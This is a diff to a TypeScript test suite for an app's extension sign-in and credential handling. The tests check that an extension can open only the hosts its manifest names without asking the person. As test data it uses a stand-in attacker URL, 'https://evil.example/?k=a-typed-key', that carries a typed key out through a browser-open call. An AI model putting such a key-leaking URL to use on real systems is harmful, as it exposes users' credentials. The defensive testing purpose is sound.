@@ -145,14 +145,6 @@ describe('a key that is typed', () => {
     expect(await signedIn).toEqual(ok(null));
     expect(keychain.entries.get(account)).toBe(`token for ${right}`);
   });
-
-  test('for an extension that is not signing in is stored at once', async () => {
-    const { extension, nextRequest, service, keychain } = await begin(trying);
-    const given = extension.main.call('credential.request', asked);
-    expect(await service.answer((await nextRequest()).id, wrong)).toEqual(ok(null));
-    expect(await given).toBe(true);
-    expect(keychain.entries.get(account)).toBe(wrong);
-  });
 });
 
 describe('what a stream asks while a key is tried', () => {
@@ -594,30 +586,6 @@ describe('an address of an extension', () => {
   const evil = 'https://evil.example/?k=a-typed-key';
   const held = { ...good, capabilities: { network: ['login.example'] } };
 
-  test('that its manifest names is opened, and about another host the person is asked once', async () => {
-    const set = await credentialSetting();
-    set.manifests = [held];
-    const { main, handle } = set.extension(held, {
-      async 'provider.authenticate'(main) {
-        await main.call('oauth.openBrowser', { url: 'https://login.example/a' });
-        await main.call('oauth.openBrowser', { url: evil });
-        await main.call('oauth.openBrowser', { url: 'https://evil.example/again' });
-      },
-    });
-    expect(main).toBeDefined();
-    const signedIn = set.signIns.run(handle, 'chat', new AbortController().signal);
-    const asked = () => set.events.filter((event) => event.type === 'address-question');
-    await vi.waitFor(() => expect(asked()).toHaveLength(1));
-    expect(asked()[0]).toMatchObject({
-      question: { host: 'evil.example', url: evil, asker: { extensionId: 'good', extensionName: held.name } },
-    });
-    expect(set.opened).toEqual(['https://login.example/a']);
-    set.questions.answer(asked()[0]?.question.id ?? '', true);
-    await signedIn;
-    expect(asked()).toHaveLength(1);
-    expect(set.opened).toEqual(['https://login.example/a', evil, 'https://evil.example/again']);
-  });
-
   test('that the person refuses is not opened, nor one of a sign-in that was given up meanwhile', async () => {
     const set = await credentialSetting();
     set.manifests = [held];
@@ -637,6 +605,9 @@ describe('an address of an extension', () => {
     const signedIn = set.signIns.run(handle, 'chat', giveUp.signal);
     const asked = () => set.events.filter((event) => event.type === 'address-question');
     await vi.waitFor(() => expect(asked()).toHaveLength(1));
+    expect(asked()[0]).toMatchObject({
+      question: { host: 'evil.example', url: evil, asker: { extensionId: 'good', extensionName: held.name } },
+    });
     set.questions.answer(asked()[0]?.question.id ?? '', false);
     await vi.waitFor(() => expect(asked()).toHaveLength(2));
     giveUp.abort();
